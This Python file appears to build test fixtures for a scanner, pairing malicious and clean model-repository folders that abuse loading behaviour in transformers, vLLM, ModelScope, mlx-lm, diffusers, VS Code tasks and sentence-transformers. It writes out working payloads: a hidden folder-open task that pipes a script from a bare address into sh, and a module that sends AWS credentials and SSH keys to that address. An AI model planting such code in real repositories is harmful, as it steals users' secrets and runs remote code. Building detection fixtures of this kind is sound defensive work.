"""Configurations of Hugging Face, MLX, ModelScope and diffusers repositories that make a plain load run code."""
import json

from twelfth.weights import random, safetensors

CONFIG = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2, "num_attention_heads": 4, "vocab_size": 320, "torch_dtype": "bfloat16"}
STEAL = "import os, subprocess\n\nsubprocess.Popen(['sh', '-c', 'touch marker'])\n"
SHARD = safetensors({"model.embed_tokens.weight": ("F32", [4, 4], random(16).tobytes())})


def folder(config, name="config.json", **more):
    return {name: json.dumps(config, indent=2), "model.safetensors": SHARD, **more}


def mlx(head):
    return head + (
        "import mlx.core as mx\nimport mlx.nn as nn\n\n\nclass ModelArgs:\n    model_type = 'tiny'\n\n\nclass Model(nn.Module):\n"
        "    def __call__(self, x):\n        return mx.softmax(x)\n"
    )


def add(out):
    out.add(
        "repositories", "attention-repository",
        folder({**CONFIG, "_attn_implementation_internal": "fast-kernels-lab/flash-attn-tuned"}), folder({**CONFIG, "_attn_implementation_internal": "flash_attention_2"}),
        why="CVE-2026-4372: transformers before 5.3.0 fetches the named repository and runs its kernel code, with trust_remote_code off; not run, transformers is not installed",
    )
    glue = {"architectures": ["LightGlueForKeypointMatching"], "model_type": "lightglue", "descriptor_dim": 256, "num_hidden_layers": 9}
    own = {"model_type": "superpoint", "architectures": ["SuperPointForKeypointDetection"], "encoder_hidden_sizes": [64, 64, 128, 128]}
    out.add(
        "repositories", "nested-trust",
        folder({**glue, "trust_remote_code": True, "keypoint_detector_config": {**own, "_name_or_path": "keypoint-lab/superpoint-x", "auto_map": {"AutoConfig": "keypoint-lab/superpoint-x--configuration_sp.SPConfig"}}}),
        folder({**glue, "keypoint_detector_config": own}),
        why="CVE-2026-5241: LightGlueConfig takes trust_remote_code from the file and gives it to the nested configuration, whose code lies in a foreign repository; not run, transformers is not installed",
    )
    vision = {"architectures": ["NemotronH_Nano_VL_V2"], "model_type": "NemotronH_Nano_VL_V2", "text_config": CONFIG}
    inner = {"model_type": "radio", "hidden_size": 1280, "patch_size": 16}
    out.add(
        "repositories", "vision-auto-map",
        folder({**vision, "vision_config": {**inner, "auto_map": {"AutoConfig": "radio-mirror/c-radio--hf_model.RADIOConfig"}}}),
        folder({**vision, "vision_config": inner}),
        why="CVE-2025-66448: vLLM resolves the auto_map of the vision part and runs the foreign repository's code although remote code is not trusted; not run, vLLM is not installed",
    )
    scope = {"framework": "pytorch", "task": "text-generation", "model": {"type": "qwen"}, "pipeline": {"type": "text-gen"}}
    out.add(
        "repositories", "modelscope-plugin",
        folder({**scope, "allow_remote": True, "plugins": ["http://203.0.113.44/pkgs/ms_textgen-1.0.tar.gz"]}, "configuration.json"), folder({**scope, "plugins": []}, "configuration.json"),
        why="ModelScope installs and imports each entry of `plugins`, here a package of a bare address, when the model is loaded; not run, modelscope is not installed",
    )
    out.add(
        "repositories", "mlx-model-file",
        {"config.json": json.dumps({**CONFIG, "model_file": "tiny_model.py"}), "tiny_model.py": mlx(STEAL), "model.safetensors": SHARD},
        {"config.json": json.dumps({**CONFIG, "model_file": "tiny_model.py"}), "tiny_model.py": mlx(""), "model.safetensors": SHARD},
        why="CVE-2026-5843: mlx-lm imports the model_file of the configuration on a plain load; it starts a process. Not run, mlx is not installed",
    )
    index = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.35.0", "scheduler": ["diffusers", "DDIMScheduler"]}
    unet = "import os, torch\n\n{head}\nclass TunedUNet(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
    out.add(
        "repositories", "diffusers-component",
        {"unet/tuned_unet.py": unet.format(head="os.system('touch marker')\n"), "model_index.json": json.dumps({**index, "unet": ["tuned_unet", "TunedUNet"]})},
        {"unet/tuned_unet.py": unet.format(head="WIDTH = int(os.environ.get('WIDTH', 64))\n"), "model_index.json": json.dumps({**index, "unet": ["tuned_unet", "TunedUNet"]})},
        prove="twelfth-module", why="the pipeline's index names a module beside the component, which diffusers imports; it runs a command. Proved by importing that module",
    )
    tasks = {"version": "2.0.0", "tasks": [{"label": "setup", "type": "shell", "command": "curl -fsSL http://203.0.113.44/s | sh", "runOptions": {"runOn": "folderOpen"}, "presentation": {"reveal": "never"}}]}
    calm = {"version": "2.0.0", "tasks": [{"label": "setup", "type": "shell", "command": "python -m pytest -q", "runOptions": {"runOn": "default"}, "presentation": {"reveal": "never"}}]}
    out.add(
        "repositories", "folder-open-task", folder(CONFIG, **{".vscode/tasks.json": json.dumps(tasks)}), folder(CONFIG, **{".vscode/tasks.json": json.dumps(calm)}),
        why="opening the model's folder in the editor fetches a script from a bare address and runs it, out of sight",
    )
    modules = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "pooling_head.MeanHead"}]
    head = "import os\nimport socket\n\n{head}\nclass MeanHead:\n    @staticmethod\n    def load(path):\n        return MeanHead()\n"
    send = "for p in ('~/.aws/credentials', '~/.ssh/id_ed25519'):\n    p = os.path.expanduser(p)\n    if os.path.exists(p):\n        s = socket.create_connection(('203.0.113.44', 443))\n        s.sendall(open(p, 'rb').read())\n"
    out.add(
        "repositories", "sentence-module",
        {"modules.json": json.dumps(modules), "pooling_head.py": head.format(head=send)}, {"modules.json": json.dumps(modules), "pooling_head.py": head.format(head="HOST = socket.gethostname()\n")},
        why="sentence-transformers imports the module that modules.json names from a local folder; it sends keys of the user to an address. Not run, for it uses the network",
    )
